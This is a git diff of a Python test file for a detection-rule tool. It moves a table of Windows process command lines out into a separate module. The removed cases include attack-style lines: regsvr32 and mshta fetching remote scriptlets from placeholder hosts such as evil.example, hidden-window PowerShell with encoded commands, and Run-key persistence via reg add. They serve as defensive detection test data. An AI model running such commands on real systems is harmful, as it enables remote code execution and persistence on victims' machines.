@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from detection_cases import CASES
 from evtx import PyEvtxParser
 
 from auditplan.emit.detections import builtin_rules_dir, evaluate, exposure, load_rules
@@ -33,68 +34,6 @@ def _events(rows: list[tuple[str, str, str | None, str | None]]) -> pd.DataFrame
 def _fired(rules, rows, family: int) -> bool:  # type: ignore[no-untyped-def]
     result = evaluate(rules, _events(rows), {})
     return next(r for r in result.results if r.family == family).hits > 0
-
-
-# (family, NewProcessName, ParentProcessName, CommandLine, should fire) - each written from the issue's
-# description of the family and the SigmaHQ rules the reference names, not from running the rules.
-CASES = [
-    # 1: regsvr32 remote scriptlet with scrobj; mshta / rundll32 javascript:
-    (1, r"C:\Windows\System32\regsvr32.exe", r"C:\Windows\explorer.exe",
-     r"regsvr32 /s /n /u /i:http://10.0.0.5/a.sct scrobj.dll", True),
-    (1, r"C:\Windows\SysWOW64\regsvr32.exe", None, r"regsvr32.exe -s -u -i:https://evil.example/x.sct scrobj.dll", True),
-    (1, r"C:\Windows\System32\mshta.exe", None, 'mshta.exe javascript:a=GetObject("script:http://x/y.sct").Exec();close()', True),
-    (1, r"C:\Windows\System32\rundll32.exe", None,
-     r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)', True),
-    (1, r"C:\Windows\System32\regsvr32.exe", None, r"regsvr32 /s C:\Program Files\App\component.dll", False),
-    (1, r"C:\Windows\System32\regsvr32.exe", None, r"regsvr32 /s /i:http://x/a.sct C:\tools\other.dll", False),
-    (1, r"C:\Windows\System32\mshta.exe", None, r"mshta.exe C:\apps\launcher.hta", False),
-    (1, r"C:\Windows\System32\notepad.exe", None, r"notepad.exe C:\notes\javascript:tips.txt", False),
-    # 2: ftp -s: script, or a child of ftp.exe
-    (2, r"C:\Windows\System32\ftp.exe", r"C:\Windows\System32\cmd.exe", r"ftp -s:C:\Users\x\AppData\Local\Temp\c.txt", True),
-    (2, r"C:\Windows\System32\ftp.exe", None, r"ftp.exe /s:script.txt", True),
-    (2, r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\ftp.exe", r"C:\Windows\system32\cmd.exe /c calc.exe", True),
-    (2, r"C:\Windows\System32\ftp.exe", None, r"ftp.exe ftp.example.com", False),
-    (2, r"C:\Tools\sftp.exe", None, r"sftp.exe -s:batch.txt user@host", False),
-    # 3: PowerShell with a hidden window, any abbreviation
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell.exe -nop -w hidden -c iex x", True),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell -WindowStyle Hidden -File a.ps1", True),
-    (3, r"C:\Program Files\PowerShell\7\pwsh.exe", None, r"pwsh.exe -win h -enc AAAA", True),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell.exe /windowstyle 1 -c x", True),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r'powershell.exe -windowst "hidden" -c x', True),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None,
-     r"powershell -w hidden -c iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
-     False),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell.exe -WindowStyle Normal -c x", False),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell.exe -c Get-Item C:\hidden", False),
-    (3, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", None, r"powershell.exe -wait hidden", False),
-    (3, r"C:\Windows\System32\cmd.exe", None, r"cmd.exe /c start /min powershell.exe -w hidden", False),
-    # 4: execution from folders that hold no programs, with installer filters
-    (4, r"C:\Users\Public\svc.exe", None, None, True),
-    (4, r"C:\PerfLogs\update.exe", None, None, True),
-    (4, r"C:\$Recycle.Bin\S-1-5-21-1\x.exe", None, None, True),
-    (4, r"C:\Windows\Temp\a.exe", None, None, True),
-    (4, r"C:\Users\bob\AppData\Local\Temp\run.exe", None, None, True),
-    (4, r"C:\Users\bob\Downloads\tool.exe", None, None, True),
-    (4, r"C:\ProgramData\x\beacon.exe", None, None, True),
-    (4, r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe", None, None, False),
-    (4, r"C:\Users\bob\AppData\Local\Temp\{GUID}\setup.exe", None, None, False),
-    (4, r"C:\Users\bob\AppData\Local\Temp\ABC\DismHost.exe", None, None, False),
-    (4, r"C:\ProgramData\Package Cache\{x}\vc_redist.x64.exe", None, None, False),
-    (4, r"C:\Program Files\App\app.exe", None, None, False),
-    (4, r"C:\Windows\System32\svchost.exe", None, None, False),
-    # 5: reg add ...\CurrentVersion\Run, with "does not contain" filters
-    (5, r"C:\Windows\System32\reg.exe", None,
-     r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v upd /d C:\Users\Public\u.exe /f', True),
-    (5, r"C:\Windows\System32\reg.exe", None,
-     r"REG ADD HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce /v x /d y", True),
-    (5, r"C:\Windows\System32\reg.exe", None,
-     r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Discord /d "C:\Users\b\AppData\Local\Discord\Update.exe"',
-     False),
-    (5, r"C:\Windows\System32\reg.exe", None, r'reg query "HKCU\Software\Microsoft\Windows\CurrentVersion\Run"', False),
-    (5, r"C:\Windows\System32\reg.exe", None, r'reg add "HKLM\SYSTEM\CurrentControlSet\Services\x" /v Start /d 2', False),
-    (5, r"C:\Windows\System32\cmd.exe", None,
-     r'cmd /c echo reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run"', False),
-]
 
 
 @pytest.mark.parametrize(("family", "image", "parent", "cmdline", "fires"), CASES)
